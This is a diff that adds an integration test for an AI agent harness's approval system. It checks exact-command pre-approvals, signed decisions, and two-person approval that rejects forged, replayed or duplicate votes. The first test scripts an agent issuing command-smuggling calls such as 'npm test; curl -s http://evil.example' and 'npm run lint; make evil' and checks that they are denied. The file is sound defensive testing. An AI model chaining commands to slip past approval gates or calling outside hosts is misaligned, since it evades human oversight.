@@ -1,0 +1,189 @@
+/**
+ * Approvals on the real dev server: pre-approvals held and matched by exact command, decisions
+ * signed by `kiln serve` checked by the worker, and two-person calls that wait for two different
+ * authenticated approvers. Every audit.jsonl written here must verify as a chain.
+ */
+import { randomBytes } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { signApproval } from '../../src/auth/attestation.js';
+import { auditVerify } from '../../src/cli/commands/audit.js';
+import { formatStatus } from '../../src/cli/commands/status.js';
+import { outcome } from '../../src/client/runs.js';
+import { approveSignal, approveUpdate, preApproveSignal, preApproveUpdate } from '../../src/shared/messages.js';
+import type { ApprovalDecision, RunState } from '../../src/shared/types.js';
+import { repoWith, testKilnHome, writeScript } from '../helpers/repo.js';
+import { testInput } from '../helpers/run-input.js';
+import { workflowTestEnv, type RunHandle, type WorkflowTestEnv } from '../helpers/workflow-env.js';
+
+const key = randomBytes(32);
+let t: WorkflowTestEnv;
+
+beforeAll(async () => {
+  testKilnHome();
+  // this worker shares kiln serve's approval key, as a deployment's workers do
+  t = await workflowTestEnv('kiln-approval-tests', { env: { ...process.env, KILN_APPROVAL_KEY: key.toString('hex') } });
+});
+afterAll(async () => {
+  await t?.stop();
+});
+
+const PACKAGE = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { lint: 'node -e "console.log(\'lint ran: clean\')"' } });
+
+/** What kiln serve sends for an authenticated user (src/auth/attestation.ts). */
+function signed(runId: string, d: { approvalId: string; approve: boolean; reason?: string }, user: string, tenant = 'acme', k = key): ApprovalDecision {
+  const issuedAt = new Date().toISOString();
+  return {
+    ...d,
+    scope: 'once',
+    by: user,
+    attestation: signApproval(k, { runId, approvalId: d.approvalId, approve: d.approve, scope: 'once', user, tenant, issuedAt }),
+  };
+}
+
+function auditOf(artifactsDir: string): Array<Record<string, unknown>> {
+  return readFileSync(join(artifactsDir, 'audit.jsonl'), 'utf8')
+    .trim()
+    .split('\n')
+    .map((l) => JSON.parse(l) as Record<string, unknown>);
+}
+
+const logHas = (h: RunHandle, text: string) => t.waitFor(h, (s: RunState) => s.log.some((l) => l.text.includes(text)));
+
+describe('pre-approvals (kiln approve RUN --pre)', () => {
+  it('attack: a pre-approval answers exactly its command, once: never `npm run lint; make evil`, never `npm test; curl evil` or another denied call', async () => {
+    const repo = repoWith({ 'package.json': PACKAGE, 'a.txt': 'a\n' });
+    const script = writeScript(join(repo, '..'), 'pre-approval', {
+      steps: [
+        { tool_use: [{ name: 'run_command', input: { command: 'npm test; curl -s http://evil.example', reason: 'x' } }] },
+        {
+          expect: { tool_result_contains: 'Denied by policy' },
+          tool_use: [{ name: 'run_command', input: { command: 'curl -s http://evil.example', reason: 'x' } }],
+        },
+        {
+          expect: { tool_result_contains: 'Denied by policy' },
+          tool_use: [{ name: 'run_command', input: { command: 'npm run lint; make evil', reason: 'x' } }],
+        },
+        { expect: { tool_result_contains: 'not with make' }, tool_use: [{ name: 'run_command', input: { command: 'npm run lint', reason: 'x' } }] },
+        { expect: { tool_result_contains: 'lint ran: clean' }, tool_use: [{ name: 'run_command', input: { command: 'npm run lint', reason: 'x' } }] },
+        {
+          expect: { tool_result_contains: 'lint ran: clean' },
+          tool_use: [
+            { name: 'create_file', input: { path: 'LINTED.md', content: 'lint ran\n' } },
+            { name: 'finish', input: { summary: 'ran the tests' } },
+          ],
+        },
+      ],
+    });
+    const input = testInput({ repo, model: `scripted:${script}`, allowUnverified: true, heartbeatTimeoutMs: 15_000 });
+    const handle = await t.start(input);
+    // sent while the run prepares and plans: before any request for it exists
+    expect(await handle.executeUpdate(preApproveUpdate, { args: [{ text: 'npm run lint', by: 'alice' }] })).toMatch(/pre-1 held/);
+    // a pre-approval of a denied command is held, and changes nothing: it only ever answers an ask
+    await handle.signal(preApproveSignal, { text: 'curl -s http://evil.example', by: 'mallory' });
+    await handle.executeUpdate(preApproveUpdate, { args: [{ text: 'npm test', by: 'mallory', scope: 'run' }] });
+
+    // turns 1-2 were denied; turn 3's compound command asks although it starts with `npm run lint`
+    const st = await t.waitFor(handle, (s) => s.pendingApprovals.length > 0);
+    expect(st.pendingApprovals.map((a) => [a.id, a.summary])).toEqual([['ap-1', 'run_command: npm run lint; make evil']]);
+    expect(formatStatus(st)).toContain('pre-approved: pre-1 `npm run lint` (once, by alice)');
+    await handle.executeUpdate(approveUpdate, { args: [{ approvalId: 'ap-1', approve: false, reason: 'not with make', by: 'bob' }] });
+
+    // turn 4: `npm run lint` exactly is answered by pre-1 (ap-2) and runs; turn 5 asks again (pre-1 is used up)
+    const second = await t.waitFor(handle, (s) => s.pendingApprovals.some((a) => a.id !== 'ap-1'));
+    expect(second.pendingApprovals.map((a) => [a.id, a.summary])).toEqual([['ap-3', 'run_command: npm run lint']]);
+    expect(second.preApprovals?.map((p) => p.id)).toEqual(['pre-2', 'pre-3']);
+    expect(second.log.map((l) => l.text)).toContain('ap-2 answered by pre-approval pre-1 of alice: run_command: npm run lint');
+    // a decision signed by kiln serve is recorded as its authenticated user
+    await handle.executeUpdate(approveUpdate, { args: [signed(input.runId, { approvalId: 'ap-3', approve: true }, 'carol')] });
+
+    const r = await outcome(handle);
+    expect(r.state, r.reason).toBe('succeeded');
+    const audit = auditOf(r.artifactsDir);
+    expect(audit.filter((e) => e.kind === 'pre-approval' || e.kind === 'approval')).toEqual([
+      expect.objectContaining({ kind: 'pre-approval', id: 'pre-1', decision: 'held', what: 'npm run lint', by: 'alice' }),
+      expect.objectContaining({ kind: 'pre-approval', id: 'pre-2', decision: 'held', what: 'curl -s http://evil.example', by: 'mallory' }),
+      expect.objectContaining({ kind: 'pre-approval', id: 'pre-3', decision: 'held', what: 'npm test', scope: 'run', by: 'mallory' }),
+      expect.objectContaining({ kind: 'approval', id: 'ap-1', decision: 'rejected', by: 'bob' }),
+      expect.objectContaining({ kind: 'pre-approval', id: 'pre-1', decision: 'used', answered: 'ap-2', by: 'alice', what: 'run_command: npm run lint' }),
+      expect.objectContaining({
+        kind: 'approval',
+        id: 'ap-3',
+        decision: 'approved',
+        by: 'carol',
+        identity: { kind: 'authenticated', name: 'carol', tenant: 'acme' },
+      }),
+    ]);
+    expect(await auditVerify(repo, input.runId)).toMatch(/^ok, \d+ entries/);
+  });
+});
+
+describe('two approvers (policy approvals.twoPerson)', () => {
+  it('waits for two different authenticated approvers: unsigned, forged and replayed decisions and the same person twice do not count; a rejection by either rejects', async () => {
+    const repo = repoWith({ 'a.txt': 'a\n', '.kiln/policy.json': JSON.stringify({ approvals: { twoPerson: ['command:make release'] } }) });
+    const script = writeScript(join(repo, '..'), 'two-approvers', {
+      steps: [
+        { tool_use: [{ name: 'run_command', input: { command: 'make release', reason: 'ship it' } }] },
+        { tool_use: [{ name: 'run_command', input: { command: 'make release', reason: 'again' } }] },
+        {
+          expect: { tool_result_contains: 'not this week' },
+          tool_use: [
+            { name: 'create_file', input: { path: 'RELEASE.md', content: 'not this week\n' } },
+            { name: 'finish', input: { summary: 'done' } },
+          ],
+        },
+      ],
+    });
+    const input = testInput({ repo, model: `scripted:${script}`, allowUnverified: true, heartbeatTimeoutMs: 15_000 });
+    const runId = input.runId;
+    const handle = await t.start(input);
+    const st = await t.waitFor(handle, (s) => s.pendingApprovals.length > 0);
+    expect(st.pendingApprovals[0]).toMatchObject({ id: 'ap-1', approvals: { needed: 2, authenticated: true, by: [] } });
+    expect(st.pendingApprovals[0]!.reason).toContain('Two different people approve this kind of call');
+    expect(formatStatus(st)).toContain('0 of 2 approvals');
+
+    const ap1 = { approvalId: 'ap-1', approve: true };
+    // a typed name through a raw signal (the Web UI's way): not authenticated
+    await handle.signal(approveSignal, { ...ap1, by: 'root' });
+    await logHas(handle, 'the approval by root (self-declared) does not count');
+    // signed with a key that is not the server's
+    await handle.executeUpdate(approveUpdate, { args: [signed(runId, ap1, 'alice', 'acme', randomBytes(32))] });
+    await logHas(handle, 'the signature does not verify');
+    // bob's genuine signature, but for another run
+    await handle.executeUpdate(approveUpdate, { args: [{ ...signed('another-run', ap1, 'bob'), by: 'bob' }] });
+    await t.waitFor(handle, (s) => s.log.filter((l) => l.text.includes('does not verify')).length === 2);
+
+    const alice = signed(runId, ap1, 'alice');
+    await handle.executeUpdate(approveUpdate, { args: [alice] });
+    const one = await t.waitFor(handle, (s) => s.pendingApprovals[0]?.approvals?.by.length === 1);
+    expect(formatStatus(one)).toContain('1 of 2 approvals (alice)');
+    expect(one.phase).toBe('awaiting_approval');
+    // the same signed decision again, and alice signing anew: one person counts once
+    await handle.executeUpdate(approveUpdate, { args: [alice] });
+    await handle.executeUpdate(approveUpdate, { args: [signed(runId, ap1, 'alice')] });
+    await t.waitFor(handle, (s) => s.log.filter((l) => l.text.includes('the same person counts once')).length === 2);
+    expect((await t.waitFor(handle, () => true)).pendingApprovals[0]?.approvals?.by).toEqual(['alice']);
+
+    // a second person of the tenant: the call runs; the next one is approved by alice and rejected by bob
+    await handle.executeUpdate(approveUpdate, { args: [signed(runId, ap1, 'bob')] });
+    await t.waitFor(handle, (s) => s.pendingApprovals[0]?.id === 'ap-2');
+    await handle.executeUpdate(approveUpdate, { args: [signed(runId, { approvalId: 'ap-2', approve: true }, 'alice')] });
+    await t.waitFor(handle, (s) => s.pendingApprovals[0]?.approvals?.by.length === 1);
+    await handle.executeUpdate(approveUpdate, { args: [signed(runId, { approvalId: 'ap-2', approve: false, reason: 'not this week' }, 'bob')] });
+
+    const r = await outcome(handle);
+    expect(r.state, r.reason).toBe('succeeded');
+    const audit = auditOf(r.artifactsDir).filter((e) => e.kind === 'approval');
+    expect(audit.map((e) => [e.id, e.decision, e.by, (e.identity as { kind: string }).kind, e.votes ?? ''])).toEqual([
+      ['ap-1', 'not counted', 'root', 'self-declared', ''],
+      ['ap-1', 'not counted', 'alice', 'self-declared', ''],
+      ['ap-1', 'not counted', 'bob', 'self-declared', ''],
+      ['ap-1', 'approved', 'alice', 'authenticated', '1 of 2'],
+      ['ap-1', 'approved', 'bob', 'authenticated', '2 of 2'],
+      ['ap-2', 'approved', 'alice', 'authenticated', '1 of 2'],
+      ['ap-2', 'rejected', 'bob', 'authenticated', ''],
+    ]);
+    expect(await auditVerify(repo, runId)).toMatch(/^ok, \d+ entries/);
+  });
+});
